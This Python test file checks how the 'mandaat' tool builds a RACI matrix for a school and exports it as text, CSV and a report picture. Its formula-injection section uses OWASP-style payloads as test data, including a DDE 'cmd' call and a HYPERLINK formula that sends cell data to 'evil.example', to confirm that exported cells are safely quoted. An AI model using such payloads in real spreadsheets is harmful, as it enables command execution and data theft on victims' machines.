"""The RACI matrix: read off the school once, shown as text, CSV and in the HTML report."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import mandaat
from mandaat._formula import FORMULA_START, csv_cell, csv_value
from mandaat.graph.matrix import findings_by_cell, matrix_csv, matrix_text, raci_matrix
from mandaat.report.picture import layout
from mandaat.workbook._csv import _csv_grid
from tests.cli.test_cli import run

HOSTILE = Path(__file__).parents[1] / "data" / "hostile_school.yaml"


@pytest.fixture
def m(example):
    return raci_matrix(example)


def test_columns_are_people_by_role_then_teams_then_the_others(m, example):
    ids = [c.id for c in m.columns]
    assert ids[:3] == ["anna", "mark", "ilse"]  # schoolleider, adjunct-directeur, ib'er
    people = [c for c in m.columns if c.kind == "person"]
    assert [c.id for c in people][-2:] == ["kees", "rob"]  # onderwijsassistent, bestuur last
    assert {c.id for c in people} == {p.id for p in example.people}  # everyone, with or without tasks
    teachers = [c.label for c in people if c.group == "leraar"]
    assert teachers == sorted(teachers)
    kinds = [c.kind for c in m.columns]
    assert kinds.index("team") > max(i for i, k in enumerate(kinds) if k == "person")
    assert ids[-4:] == ["team", "ggd", "swv", "ouders"]
    assert next(c for c in m.columns if c.id == "daan").group == "bouwcoordinator"


def test_cells_hold_the_letters_the_hours_and_the_default(m, example):
    assert [r.task for r in m.rows] and len(m.rows) == len(example.tasks)
    assert m.cell("jaarplanning", "anna").letters == ("A",)
    assert m.cell("jaarplanning", "mark").text() == "A/R"
    assert m.cell("studiedag-leren", "ilse").text() == "A/R 16"
    assert m.cell("administratie-zorg", "ilse").hours == 120
    default = m.cell("groepsbesprekingen", "anna")
    assert default.by_default and default.text() == "A*"
    assert not m.cell("jaarplanning", "anna").by_default
    assert m.cell("jaarplanning", "ilse") is None
    assert m.cell("arrangement-swv", "ouders").letters == ("C",)
    domains = [d for d, _ in m.domains()]
    assert domains == ["leren_en_ontwikkeling", "data_monitoring_reflectie",
                       "zorg_en_ondersteuning", "beleid_en_beheer"]


def test_the_matrix_does_not_depend_on_list_order(example):
    data = example.model_dump(mode="json", by_alias=True)
    for key in ("people", "tasks", "teams", "externals"):
        data[key].reverse()
    assert raci_matrix(mandaat.load_school(data)) == raci_matrix(example)


def test_text_puts_each_letter_under_its_name(m):
    text = matrix_text(m)
    lines = text.splitlines()
    header = [line for line in lines if line.rstrip().endswith("Mark de Vries "
                                                              "(adjunct-directeur, leraar)")]
    assert len(header) == 1
    mark_at = header[0].index("Mark de Vries")
    row = next(line for line in lines if line.startswith("  Jaarplanning"))
    assert row[mark_at:mark_at + 3] == "A/R"
    ilse_at = next(line for line in lines if "Ilse Bakker" in line).index("Ilse Bakker")
    assert next(line for line in lines if line.startswith("  Zorgadministratie"))[
        ilse_at:ilse_at + 5] == "R 120"
    assert "Beleid en beheer" in lines and lines[1].startswith("A eindverantwoordelijk")


def test_csv_is_one_row_per_task_with_a_column_per_person_and_team(m, example):
    rows = list(csv.reader(io.StringIO(matrix_csv(m)), delimiter=";"))
    head, body = rows[0], rows[1:]
    assert head[:4] == ["id", "taak", "soort taak", "domein"]
    assert "Ilse Bakker (intern begeleider)" in head and "Leerteam bovenbouw (leerteam, 6 leden)" in head
    assert len(body) == len(example.tasks) and all(len(r) == len(head) for r in body)
    by_task = {r[0]: dict(zip(head, r)) for r in body}
    assert by_task["groepsbesprekingen"]["Anna Jansen (schoolleider)"] == "A*"
    assert by_task["administratie-zorg"]["Ilse Bakker (intern begeleider)"] == "R 120"
    english = list(csv.reader(io.StringIO(matrix_csv(m, "en")), delimiter=";"))[0]
    assert english[:4] == ["id", "task", "task type", "domain"]
    assert "Ilse Bakker (internal supervisor)" in english and "all staff" in english


# --- formula injection: no CSV cell mandaat writes starts a formula --------------------------

#: What follows the dangerous first character: formulas of the OWASP examples.
TAILS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"klik")',
         "SUM(1,2)")


def hostile(name: str, title: str) -> mandaat.School:
    return mandaat.load_school({
        "format": "mandaat/1", "school": {"name": "X"},
        "people": [{"id": "anna", "name": "Anna", "roles": ["schoolleider"]},
                   {"id": "tom", "name": name, "roles": ["leraar"]}],
        "tasks": [{"id": "t1", "type": "planning", "title": title, "accountable": "anna",
                   "responsible": ["tom"], "hours": {"tom": 3}}]})


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for c in row]


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_START)


@pytest.mark.parametrize("tail", TAILS)
@pytest.mark.parametrize("start", FORMULA_START)
def test_a_csv_matrix_starts_no_formula_and_reads_back_as_written(tmp_path, start, tail):
    name, title = start + tail, start + tail + " (taak)"
    text = matrix_csv(raci_matrix(hostile(name, title)))
    assert not [c for c in cells(text) if dangerous(c)]
    assert f"'{name} (leraar)" in cells(text) and f"'{title}" in cells(text)
    path = tmp_path / "matrix.csv"
    path.write_text(text, encoding="utf-8")
    rows = _csv_grid(path).rows        # what mandaat's CSV reader makes of the file
    assert f"{name} (leraar)" in rows[0] and rows[1][1] == title


def test_the_hostile_school_as_csv_from_the_command_line_starts_no_formula(tmp_path):
    out = tmp_path / "matrix.csv"
    assert run("matrix", str(HOSTILE), "--format", "csv", "-o", str(out))[0] == 0
    text = out.read_text(encoding="utf-8")
    assert not [c for c in cells(text) if dangerous(c)]
    written = cells(text)
    assert "'\t=1+1 (leraar)" in written        # a tab in front of a formula: quoted
    assert "\\x0d=1+1 (leraar)" in written      # a carriage return made visible: no formula
    head = _csv_grid(out).rows[0]               # and the reader takes the quotes off again
    assert "=cmd|' /C calc'!A0 (schoolleider)" in head and "+SUM(1,2) (extern, samenwerkingsverband)" in head
    assert "\t=1+1 (leraar)" in head


def test_a_number_in_a_csv_cell_is_data_and_stays_a_number():
    assert [csv_cell(n) for n in ("-3", "+5", "-1,5", "-0.25", "+1e3")] == [
        "-3", "+5", "-1,5", "-0.25", "+1e3"]
    text = matrix_csv(raci_matrix(hostile("Tom", "-3")))
    assert "-3" in cells(text)
    assert [csv_cell(n) for n in ("-3+1", "-", "+", "=3", "@3", "-3 uur")] == [
        "'-3+1", "'-", "'+", "'=3", "'@3", "'-3 uur"]


@given(st.text())
def test_every_text_survives_the_csv_quote_and_never_starts_a_formula(text):
    cell = csv_cell(text)
    assert csv_value(cell) == text
    if dangerous(cell):   # only a plain number may start with a sign
        assert cell == text and re.fullmatch(r"[+-][\d.,]+([eE][+-]?\d+)?", cell)


def test_findings_mark_cells_rows_and_columns(example, m):
    report = mandaat.check(example)
    marks = findings_by_cell(m, [f.subjects for f in report.findings])
    number = {f.rule + ":" + ",".join(f.subjects): n
              for n, f in enumerate(report.findings, 1)}
    assert marks[("jaarplanning", "mark")] == [number["ACCOUNTABLE_HAS_AUTHORITY:jaarplanning,mark"]]
    assert number["SINGLE_ACCOUNTABLE:jaarplanning"] in marks[("jaarplanning", None)]
    assert number["BEHEER_OVERLOAD:ilse"] in marks[(None, "ilse")]
    # a finding about a mandate or a signal alone is about no cell
    about_nothing = number["MANDATE_COMMUNICATED:m-methode"]
    assert all(about_nothing not in ns for ns in marks.values())


def test_the_picture_draws_every_letter_once_and_marks_what_findings_are_about(example, m):
    report = mandaat.check(example)
    marks = findings_by_cell(m, [f.subjects for f in report.findings])
    severities = {n: f.severity for n, f in enumerate(report.findings, 1)}
    p = layout(m, marks, severities)
    filled = [(r.task, h) for r in m.rows for h, cell in r.cells.items() if cell.letters]
    assert sorted((e.task.id, e.holder.id) for e in p.edges) == sorted(filled)
    assert {n.id for n in p.holders} == {c.id for c in m.columns if m.used(c.id)}
    assert "lisa" not in {n.id for n in p.holders}  # no task of her own: in the matrix only
    edge = next(e for e in p.edges if (e.holder.id, e.task.id) == ("mark", "jaarplanning"))
    assert edge.letter == "A" and edge.letters == "A/R" and edge.severity == "violation"
    assert edge.findings == marks[("jaarplanning", "mark")]
    task = next(n for n in p.tasks if n.id == "jaarplanning")
    assert sorted(b.number for b in task.badges) == sorted(
        set(marks[("jaarplanning", "mark")] + marks[("jaarplanning", None)]))
    # nothing is drawn outside the picture
    for node in p.holders + p.tasks:
        assert node.x >= 0 and node.x + node.w <= p.width and node.y + 22 <= p.height
        for b in node.badges:
            assert b.x - 9 >= 0 and b.x + 9 <= p.width
